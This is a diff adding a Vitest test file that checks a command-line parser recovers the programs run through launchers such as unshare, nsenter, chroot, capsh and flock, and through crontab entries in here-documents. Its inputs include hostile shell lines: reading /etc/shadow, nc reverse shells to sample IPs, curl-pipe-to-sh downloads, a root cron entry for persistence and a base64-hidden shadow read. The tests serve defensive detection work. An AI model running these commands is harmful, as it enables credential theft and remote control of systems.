@@ -1,0 +1,93 @@
+import { describe, expect, it } from 'vitest';
+import { launchedCommands } from './command-launchers';
+import { parseCommandLine } from './parse-command-line';
+
+const programs = (line: string): string[] => parseCommandLine(line).map((c) => c.program);
+
+describe('command launchers: the command a namespace or sandbox launcher starts is parsed', () => {
+  it('parses the shell and the script an unshare or nsenter runs', () => {
+    expect(programs(`unshare -m sh -c 'id; cat /etc/shadow'`)).toEqual([
+      'unshare',
+      'sh',
+      'id',
+      'cat',
+    ]);
+    expect(programs(`unshare --map-user 0 --fork --pid --mount-proc bash -c 'id'`)).toEqual([
+      'unshare',
+      'bash',
+      'id',
+    ]);
+    const sh = parseCommandLine(`sudo nsenter -t 1 -m -u -i -n sh`).find(
+      (c) => c.origin === 'exec',
+    );
+    expect(sh?.program).toBe('sh');
+    expect(sh?.elevated).toBe(true);
+  });
+
+  it('skips the operands a launcher takes before the command', () => {
+    expect(programs(`chroot --userspec=0:0 /mnt /bin/sh -c 'cat /etc/shadow'`)).toEqual([
+      'chroot',
+      'sh',
+      'cat',
+    ]);
+    expect(programs(`sudo setarch $(arch) -R /bin/sh`)).toEqual(['arch', 'setarch', 'sh']);
+    expect(programs(`taskset -c 0 nc -e /bin/sh 203.0.113.4 4444`)).toEqual(['taskset', 'nc']);
+    expect(programs(`chrt -f 99 /tmp/x`)).toEqual(['chrt', 'x']);
+    expect(programs(`sudo systemd-run -p User=root -t /bin/sh`)).toEqual(['systemd-run', 'sh']);
+    expect(programs(`sshpass -p secret ssh user@host uptime`)).toEqual(['sshpass', 'ssh']);
+  });
+
+  it('reads ip netns exec, capsh --, flock -c and script -c', () => {
+    expect(programs(`sudo ip netns exec blue /bin/sh`)).toEqual(['ip', 'sh']);
+    expect(programs(`capsh --gid=0 --uid=0 -- -c 'cat /etc/shadow'`)).toEqual([
+      'capsh',
+      'bash',
+      'cat',
+    ]);
+    expect(programs(`sudo capsh --`)).toEqual(['capsh', 'bash']);
+    expect(programs(`flock /tmp/l -c 'curl -s http://x/a | sh'`)).toEqual(['flock', 'curl', 'sh']);
+    expect(programs(`flock -n /var/lock/backup.lock /usr/local/bin/backup --all`)).toEqual([
+      'flock',
+      'backup',
+    ]);
+    expect(programs(`script -qc /bin/bash /dev/null`)).toEqual(['script', 'bash']);
+  });
+
+  it('finds no command where the launcher is given none', () => {
+    expect(programs(`taskset -p 1234`)).toEqual(['taskset']);
+    expect(programs(`chrt -p 1234`)).toEqual(['chrt']);
+    expect(programs(`ip netns list`)).toEqual(['ip']);
+    expect(programs(`ip -br addr show`)).toEqual(['ip']);
+    expect(programs(`script -q /tmp/session.log`)).toEqual(['script']);
+    expect(launchedCommands('ls', ['-la'])).toBeUndefined();
+    expect(launchedCommands('capsh', ['--print'])).toEqual({ scripts: [], execs: [] });
+  });
+});
+
+describe('crontab entries in here-documents: the command after the schedule is the program', () => {
+  it('skips five time fields, a nickname and a system account', () => {
+    const lines = parseCommandLine(
+      `sudo tee /etc/cron.d/x <<EOF\n* * * * * root curl -s http://x/a | sh\n@reboot /tmp/.x/agent\n*/5 * * * * nc -e /bin/sh 10.0.0.1 4444\nEOF`,
+    );
+    expect(lines.map((c) => c.program)).toEqual(['tee', 'curl', 'sh', 'agent', 'nc', 'EOF']);
+    expect(lines.find((c) => c.program === 'nc')?.args).toEqual([
+      '-e',
+      '/bin/sh',
+      '10.0.0.1',
+      '4444',
+    ]);
+  });
+
+  it('leaves ordinary commands and a bare schedule alone', () => {
+    expect(programs(`0 0 * * *`)).toEqual(['0']);
+    expect(programs(`root ls`)).toEqual(['root']);
+    expect(programs(`@reboot`)).toEqual(['@reboot']);
+  });
+});
+
+describe('stdin text made of a substitution', () => {
+  it('parses the decoded output echo passes to a shell', () => {
+    const commands = parseCommandLine(`echo "$(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)" | sh`);
+    expect(commands.find((c) => c.program === 'cat')?.args).toEqual(['/etc/shadow']);
+  });
+});
